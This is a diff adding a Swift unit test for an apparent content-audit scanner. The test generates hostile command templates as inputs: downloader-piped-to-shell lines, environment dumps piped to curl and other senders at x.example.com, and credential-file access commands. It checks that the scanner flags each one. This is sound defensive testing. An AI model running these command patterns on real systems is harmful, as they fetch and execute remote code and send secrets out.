@@ -111,6 +111,27 @@ struct ContentAuditTests {
     #expect(step.findings.map(\.rule) == [.downloadToShell])
   }
 
+  /// Lines are passed over by their bytes: none that has one of the words that the rules know may be.
+  @Test func everyWordThatRulesKnowIsFound() {
+    func rules(_ line: String) -> [AuditRule] { audit("```\n\(line)\n```\n").findings.map(\.rule) }
+    for name in ShellWords.names(of: .downloader) where name != "downloadstring" {
+      #expect(rules("\(name) https://x.example.com | sh") == [.downloadToShell], "\(name)")
+      #expect(
+        rules("/usr/bin/\(name.uppercased()).EXE https://x.example.com | sh") == [.downloadToShell],
+        "\(name)"
+      )
+    }
+    for sender in ShellWords.names(of: .sender) + ["curl"] {
+      for shown in ShellWords.names(of: .environment) {
+        #expect(rules("\(shown) | \(sender) x.example.com") == [.environmentUpload], "\(shown) \(sender)")
+      }
+    }
+    let names = ShellWords.credentialNames.flatMap { ["a/\($0)", "@\($0.uppercased())"] }
+    for path in names + ShellWords.credentialPairs.map({ "/\($0)" }) + ShellWords.credentialCommands {
+      #expect(rules("do \(path)") == [.credentialAccess], "\(path)")
+    }
+  }
+
   /// Characters that are known without the tables of Unicode are no others than those say.
   @Test func shortcutsAgreeWithTheTablesOfUnicode() throws {
     for value in (0x80 as UInt32)...0x10FFFF {
